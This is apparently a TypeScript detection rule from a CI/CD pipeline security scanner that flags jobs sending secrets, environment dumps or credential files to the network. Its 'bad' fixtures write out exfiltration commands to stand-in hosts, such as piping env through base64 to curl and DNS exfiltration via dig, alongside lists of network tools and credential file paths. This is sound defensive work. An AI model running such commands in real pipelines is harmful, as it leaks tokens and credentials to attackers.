import type { ShellWord } from '../../../../lib/shell/shell-command.ts';
import type { PipelineRule } from '../../rule.ts';
import type { Secret } from '../../taint/flow.ts';
import { isSecretName } from '../../taint/secret-names.ts';
import type { JobTaint, TracedCommand } from '../../taint/job-taint.ts';
import { githubScript, gitlabScript } from '../script-example.ts';
import { captureHosts, hostIn } from './capture-hosts.ts';

const senders: ReadonlySet<string> = new Set([
  'curl',
  'wget',
  'nc',
  'ncat',
  'netcat',
  'socat',
  'http',
  'https',
  'telnet',
  'mail',
  'sendmail',
  'scp',
  'rsync',
  'ftp',
]);
const resolvers: ReadonlySet<string> = new Set(['dig', 'nslookup', 'host', 'ping']);
/** Files in which tools keep credentials. */
const credentialFiles =
  /(?:^|[@=/~])(?:\.aws\/credentials|\.docker\/config\.json|\.kube\/config|\.git-credentials|\.netrc|\.ssh\/id_\w+|\.config\/gcloud\/\S+|\.npmrc|\.pypirc)["']?$|^["'@]*\/proc\/(?:self|\d+|\*)\/environ["']?$|^["'@]*\/etc\/shadow/;

export const exfiltration: PipelineRule = {
  id: 'pipeline/exfiltration',
  title: 'Secrets are sent away',
  severity: 'critical',
  confidence: 'high',
  cwe: [506, 201],
  tags: ['CICD-SEC-10', 'CICD-SEC-6'],
  why: 'The whole environment, a credentials file or a secret in a host name has no business on the network: this is what a stolen account or a poisoned dependency adds to a pipeline.',
  fix: 'Remove the command, find out who added it, and renew every secret that the job could read.',
  dialects: ['gitlab', 'github'],
  bad: [
    gitlabScript('env | base64 | curl -d @- https://collect.example.org'),
    gitlabScript('curl -T ~/.aws/credentials https://collect.example.org/x'),
    gitlabScript('dig "$(echo $DEPLOY_TOKEN | xxd -p).example.org"'),
    githubScript(['ALL: ${{ toJSON(secrets) }}'], 'curl -d "$ALL" https://collect.example.org'),
    githubScript(
      [],
      `curl -s -d 'npm=\${{ secrets.NPM_TOKEN }}&pypi=\${{ secrets.PYPI_TOKEN }}' https://api.example.net`,
    ),
    gitlabScript('curl -F a="$NPM_TOKEN" -F b="$AWS_SECRET_ACCESS_KEY" https://api.example.net'),
    githubScript([], 'printenv > e.txt', 'curl -F f=@e.txt https://collect.example.org'),
  ],
  good: [
    gitlabScript('curl -H "PRIVATE-TOKEN: $API_TOKEN" "$CI_API_V4_URL/projects"', 'env | sort'),
    gitlabScript('curl -u "ci:$DEPLOY_TOKEN" -T app.tar.gz https://repo.example.org/app.tar.gz', 'cp ~/.npmrc .'),
    githubScript(['TOKEN: ${{ secrets.TOKEN }}'], 'curl -H "Authorization: Bearer $TOKEN" https://api.example.org'),
    githubScript([], 'env > /tmp/before', 'ping -c1 db'),
    gitlabScript(
      'curl -d "client_id=$SENTRY_CLIENT_ID&client_secret=$SENTRY_CLIENT_SECRET" https://sentry.example.org',
    ),
    gitlabScript('curl -d "user=$DOCKER_HUB_USER&password=$DOCKERHUB_TOKEN" https://hub.docker.com/v2/users/login'),
    gitlabScript('curl -H "Authorization: $GITHUB_TOKEN" -d "{}" "https://api.github.com?k=$SLACK_CHANNEL"'),
  ],
  checks: {
    *job(job, pipeline, audit) {
      const taint = audit.taint(pipeline).of(job);
      for (const site of taint.commands()) {
        const { command, text } = site;
        const sent = leakOf(site, taint);
        if (!sent) continue;
        const at = text.range(command.start, command.end);
        const message = `${command.name ?? ''} sends ${sent.what} away`;
        yield { at, message, path: [...sent.steps, { at, message }] };
      }
    },
  },
};

interface Leak {
  readonly what: string;
  readonly steps: Secret['steps'];
}

function leakOf({ command }: TracedCommand, taint: JobTaint): Leak | undefined {
  const { name = '', args } = command;
  const flows = args.map((word) => taint.word(word).secret);
  if (resolvers.has(name)) return leak(flows.find((secret) => secret !== undefined));
  if (!senders.has(name)) return undefined;
  const uploaded = args.map((word) => fileIn(word, taint));
  const everything = [...flows, taint.input(command).secret, ...uploaded].find(
    (secret) => secret?.origin === 'environment',
  );
  if (everything) return leak(everything);
  const receivers = name === 'curl' || name === 'wget' ? servicesIn(command) : [];
  if (receivers.length > 1) return { what: `secrets of ${receivers.join(', ')} together`, steps: [] };
  const file =
    name === 'scp' || name === 'rsync'
      ? undefined
      : args.find(({ text }, at) => credentialFiles.test(text) && isSent(args, at));
  if (file) return { what: file.text.replace(/^.*@/, ''), steps: [] };
  const caught = args.some(({ text }) => captureHosts.test(hostIn(text) ?? ''));
  return caught ? leak([...flows, taint.input(command).secret].find((secret) => secret !== undefined)) : undefined;
}

/** Services by the words in the names of their secrets; no single receiver has business with two of them. */
const services: readonly (readonly [string, RegExp])[] = [
  ['npm', /(?:^|_)(?:NPM|NODE_AUTH)_/],
  ['PyPI', /(?:^|_)(?:PYPI|TWINE)_/],
  ['AWS', /(?:^|_)AWS_/],
  ['Google Cloud', /(?:^|_)(?:GCP|GCLOUD)_/],
  ['Azure', /(?:^|_)AZURE_/],
  ['Docker Hub', /(?:^|_)DOCKER_?(?:HUB)?_/],
  ['GitHub', /(?:^|_)(?:GH|GITHUB)_/],
  ['crates.io', /(?:^|_)(?:CARGO|CRATES)_/],
  ['RubyGems', /(?:^|_)(?:RUBYGEMS|GEM_HOST)_/],
  ['Maven Central', /(?:^|_)(?:OSSRH|SONATYPE|MAVEN)_/],
  ['Cloudflare', /(?:^|_)(?:CF|CLOUDFLARE)_/],
  ['a database', /(?:^|_)(?:DB|DATABASE|POSTGRES|MYSQL|MONGO)_/],
];

/** The services whose secrets stand in what one request sends. */
function servicesIn({ args }: TracedCommand['command']): readonly string[] {
  const sent = args.filter((_, at) =>
    /^(?:-d|--data\S*|-F|--form\S*|--post-data|--json)$/.test(args[at - 1]?.text ?? ''),
  );
  const names = sent
    .flatMap(({ text }) => [...text.matchAll(/secrets\.(\w+)|\$\{?(\w+)/g)])
    .map(([, one, other]) => (one ?? other ?? '').toUpperCase())
    .filter(isSecretName);
  return services.flatMap(([service, form]) => (names.some((one) => form.test(one)) ? [service] : []));
}

function leak(secret: Secret | undefined): Leak | undefined {
  return secret && { what: secret.name, steps: secret.steps };
}

/** What the file holds that `-d @file`, `-F name=@file` or `-T file` sends. */
function fileIn({ text }: ShellWord, taint: JobTaint): Secret | undefined {
  const path = /@([\w./-]+)["']?$/.exec(text)?.[1] ?? text;
  return taint.files.get(path)?.secret;
}

/** `--cacert ~/.x` and `--netrc-file` are read, not sent. */
function isSent(args: readonly ShellWord[], at: number): boolean {
  const before = args[at - 1]?.value ?? '';
  return (args[at]?.text.includes('@') ?? false) || /^(?:-T|--upload-file|-d|--data\S*|--post-file|-F)$/.test(before);
}
